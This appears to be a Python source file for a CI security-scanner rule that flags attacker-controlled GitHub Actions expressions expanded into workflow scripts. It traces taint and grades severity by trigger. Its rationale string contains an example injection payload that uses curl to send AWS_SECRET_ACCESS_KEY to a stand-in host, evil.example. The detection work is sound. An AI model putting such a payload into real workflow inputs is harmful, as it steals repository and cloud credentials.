"""IA-CI-003: an attacker-controlled ``${{ }}`` expanded into a script."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from enum import IntEnum

from infra_architect.iac import (
    Job,
    Step,
    Where,
    Workflow,
    WorkflowGraph,
    expressions,
    flowing_contexts,
)
from infra_architect.rules._model import Finding, RuleContext, RuleMeta, Severity

META = RuleMeta(
    id="IA-CI-003",
    title="Attacker-controlled expression expanded into a script",
    severity=Severity.CRITICAL,
    rationale="GitHub expands ${{ }} into a run: script (or actions/github-script's script:) "
    "as text before the shell or Node reads it: a pull request title, branch name, issue "
    "or comment body, commit message or free-text input such as "
    '`x"; curl -d "$AWS_SECRET_ACCESS_KEY" evil.example; #` becomes code, running with '
    "the job's token, secrets and "
    "cloud credentials. Critical on triggers an outsider fires with the base repository's "
    "secrets (pull_request_target, issue_comment, issues, discussion, reviews, "
    "workflow_run), high on the others, medium for values of constrained shape (refs, "
    "URLs).",
    remediation="Pass the value through env: and read it as a quoted shell variable: "
    'env: {TITLE: ${{ github.event.issue.title }}} and run: echo "$TITLE" (in '
    "github-script, process.env.TITLE); never put ${{ }} of event data, head_ref or "
    "free-text inputs inside the script itself.",
    references=(
        (
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/"
            "security-hardening-for-github-actions#understanding-the-risk-of-script-injections"
        ),
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
        "https://docs.zizmor.sh/audits/#template-injection",
    ),
)


class Control(IntEnum):
    """How much of a context's text an attacker chooses."""

    SHAPED = 1  # within a constrained shape: a ref name, a URL GitHub builds
    ARBITRARY = 2  # any text: titles, bodies, messages, branch names of forks, inputs


PRIVILEGED = {
    "pull_request_target": "anyone who opens a pull request sets it",
    "issue_comment": "anyone who can comment sets it",
    "issues": "anyone who can open an issue sets it",
    "discussion": "anyone who can start a discussion sets it",
    "discussion_comment": "anyone who can comment sets it",
    "pull_request_review": "anyone who can review sets it",
    "pull_request_review_comment": "anyone who can comment on a pull request sets it",
    "workflow_run": "the triggering run (a fork's pull request) sets it",
}
"""Triggers an outsider fires, running with the base repository's secrets and token."""

_PAYLOAD = {
    "comment": ("issue_comment", "discussion_comment", "pull_request_review_comment"),
    "issue": ("issues", "issue_comment"),
    "pull_request": ("pull_request_target", "pull_request_review", "pull_request_review_comment"),
    "review": ("pull_request_review",),
    "discussion": ("discussion", "discussion_comment"),
    "workflow_run": ("workflow_run",),
    "head_ref": ("pull_request_target",),
}
"""The privileged triggers whose payload carries each part of the event: the one named
in a finding is the one that puts the text there."""

_GITHUB_ARBITRARY = {"head_ref"}
_GITHUB_SHAPED = {"ref", "ref_name", "base_ref"}
_GITHUB_FIXED = {
    "action", "action_path", "action_ref", "action_repository", "action_status", "actor",
    "actor_id", "api_url", "env", "event_name", "event_path", "graphql_url", "job", "path",
    "ref_protected", "ref_type", "repository", "repository_id", "repository_owner",
    "repository_owner_id", "repositoryurl", "retention_days", "run_id", "run_number",
    "run_attempt", "secret_source", "server_url", "sha", "token", "triggering_actor",
    "workflow", "workflow_ref", "workflow_sha", "workspace", "output", "state",
    "step_summary",
}  # fmt: skip
"""The github context's own properties that GitHub sets to ids, names it validates, shas
and paths."""

_EVENT_FIXED = {
    "id", "number", "sha", "before", "after", "head_sha", "merge_commit_sha", "size",
    "additions", "deletions", "changed_files", "commits", "comments", "review_comments",
    "draft", "merged", "locked", "mergeable", "rebaseable", "site_admin", "private", "fork",
    "forced", "created", "deleted", "distinct", "author_association", "state", "type",
    "status", "conclusion", "event", "run_number", "run_attempt", "login", "node_id",
    "public", "archived", "disabled", "is_template",
}  # fmt: skip
"""Event payload fields that are numbers, booleans, shas, enumerations or logins (letters,
digits and '-'); every other field of the payload is text someone chose."""

_SAFE_INPUT_TYPES = {"boolean", "number", "choice", "environment"}
_DEPTH = 8


@dataclass(frozen=True)
class Taint:
    control: Control
    origin: str  # the attacker-controlled context it comes from
    input: bool = False  # a workflow_dispatch / workflow_call input, not event data


@dataclass(frozen=True)
class _Scope:
    workflow: Workflow
    job: Job | None
    step: Step | None


def _event(parts: list[str], workflow: Workflow) -> Control | None:
    """``github.event.<...>``: ``parts`` after ``event``."""
    if len(parts) >= 2 and parts[0] == "inputs":
        return _input(parts[1], workflow)
    if not parts:
        return Control.ARBITRARY  # the whole payload (toJSON(github.event))
    if parts[0] == "repository":
        # the repository the workflow runs in (the base, for a pull request from a fork):
        # named and described by its own admins (a fork or head repository is elsewhere)
        return None
    leaf = parts[-1]
    if leaf in _EVENT_FIXED or leaf.endswith(("_at", "_count", "_id")) or "reactions" in parts[:-1]:
        return None
    if leaf == "url" or leaf.endswith("_url"):
        return Control.SHAPED
    return Control.ARBITRARY


def _input(name: str, workflow: Workflow) -> Control | None:
    declared = {k.lower(): v.lower() for k, v in workflow.inputs.items()}
    if name == "*" or declared.get(name, "string") not in _SAFE_INPUT_TYPES:
        return Control.ARBITRARY
    return None


def _direct(parts: list[str], workflow: Workflow) -> Control | None:
    """How much of a context an attacker controls, from the context alone."""
    head, rest = parts[0], parts[1:]
    if head == "inputs" and rest:
        return _input(rest[0], workflow)
    if head != "github" or not rest:
        return Control.ARBITRARY if parts == ["github"] else None
    if rest[0] == "event":
        return _event(rest[1:], workflow)
    if rest[0] in _GITHUB_ARBITRARY:
        return Control.ARBITRARY
    if rest[0] in _GITHUB_SHAPED:
        return Control.SHAPED
    return None if rest[0] in _GITHUB_FIXED else Control.SHAPED


def _lookup(name: str, *tables: dict[str, str]) -> str | None:
    for table in tables:
        for key, value in table.items():
            if key.lower() == name:
                return value
    return None


def _writes_output(step: Step) -> bool:
    return "GITHUB_OUTPUT" in step.run or "::set-output" in step.run


def taint_of(context: str, scope: _Scope, depth: int = 0) -> Taint | None:
    """Whether (and how much) an attacker controls ``context`` where it is used: event
    data and inputs directly; env entries, step outputs and job outputs through what
    they are set to, followed cheaply (same file, a few hops)."""
    parts = context.lower().split(".")
    direct = _direct(parts, scope.workflow)
    if direct is not None:
        return Taint(direct, context, input="inputs" in parts[:3])
    if depth >= _DEPTH or len(parts) < 2:
        return None
    head = parts[0]
    if head == "env":
        value = _lookup(
            parts[1],
            scope.step.env if scope.step else {},
            scope.job.env if scope.job else {},
            scope.workflow.variables,
        )
        return None if value is None else taint_of_text(value, scope, depth + 1)
    if head == "steps" and scope.job is not None and parts[2:3] == ["outputs"]:
        producer = next((s for s in scope.job.steps if s.id.lower() == parts[1]), None)
        if producer is None or not _writes_output(producer):
            return None  # an action's outputs, or no such step: not followed
        inner = _Scope(scope.workflow, scope.job, producer)
        found = [taint_of_text(producer.run, inner, depth + 1)]
        found += [taint_of_text(v, inner, depth + 1) for v in producer.env.values()]
        return _strongest(found)
    if head == "needs" and parts[2:3] == ["outputs"] and len(parts) >= 4:
        job = next((j for j in scope.workflow.jobs if j.id.lower() == parts[1]), None)
        value = None if job is None else _lookup(parts[3], job.outputs)
        if job is None or value is None:
            return None
        return taint_of_text(value, _Scope(scope.workflow, job, None), depth + 1)
    return None


def _strongest(found: list[Taint | None]) -> Taint | None:
    present = [t for t in found if t is not None]
    return max(present, key=lambda t: t.control) if present else None


def taint_of_text(text: str, scope: _Scope, depth: int = 0) -> Taint | None:
    return _strongest(
        [
            taint_of(context, scope, depth)
            for expression in expressions(text)
            for context in sorted(flowing_contexts(expression.source))
        ]
    )


def _sinks(step: Step) -> Iterator[tuple[str, str, Where]]:
    """The texts of a step that run as code: its script, github-script's script."""
    if step.run:
        yield "run: script", step.run, step.where.get("run", Where(step.line))
    if step.uses.lower().startswith("actions/github-script@") and "script" in step.with_:
        where = step.where.get("with.script", Where(step.line))
        yield "github-script script:", step.with_["script"], where


def _severity(taint: Taint, workflow: Workflow) -> tuple[Severity, str]:
    """How bad, and why: by how much of the text an attacker chooses and by who can
    start the run with it."""
    if taint.control is Control.SHAPED:
        return Severity.MEDIUM, (
            "a ref or URL: its shape is constrained, but not to characters a shell ignores"
        )
    if taint.input:
        return Severity.HIGH, "free text whoever dispatches or calls the workflow types in"
    privileged = [t for t in workflow.triggers if t in PRIVILEGED]
    if privileged:
        parts = taint.origin.lower().split(".")
        key = parts[2] if parts[:2] == ["github", "event"] and len(parts) > 2 else parts[-1]
        carried = [t for t in privileged if t in _PAYLOAD.get(key, ())]
        trigger = (carried or privileged)[0]
        return Severity.CRITICAL, (
            f"text an outsider writes: on {trigger} {PRIVILEGED[trigger]}, and the job runs "
            "with the repository's secrets"
        )
    triggers = ", ".join(workflow.triggers) or "its triggers"
    return Severity.HIGH, f"text whoever triggers the run ({triggers}) writes"


def check(graph: WorkflowGraph, context: RuleContext) -> Iterator[Finding]:
    del context
    for workflow in graph.workflows:
        for job in workflow.jobs:
            for step in job.steps:
                yield from _step_findings(workflow, job, step)


def _step_findings(workflow: Workflow, job: Job, step: Step) -> Iterator[Finding]:
    scope = _Scope(workflow, job, step)
    for sink, text, where in _sinks(step):
        for expression in expressions(text):
            for used in sorted(flowing_contexts(expression.source)):
                taint = taint_of(used, scope)
                if taint is None:
                    continue
                severity, why = _severity(taint, workflow)
                via = "" if taint.origin == used else f", set from {taint.origin},"
                finding = META.finding(
                    f"{workflow.file}: step '{step.label}' (job {job.id}) expands "
                    f"{expression.text} into its {sink} before it runs: {used}{via} is {why}",
                    workflow.file,
                    where.line_of(expression.offset, text),
                    (f"job {job.id}, step {step.label}: {used}",),
                )
                yield finding.model_copy(update={"severity": severity})
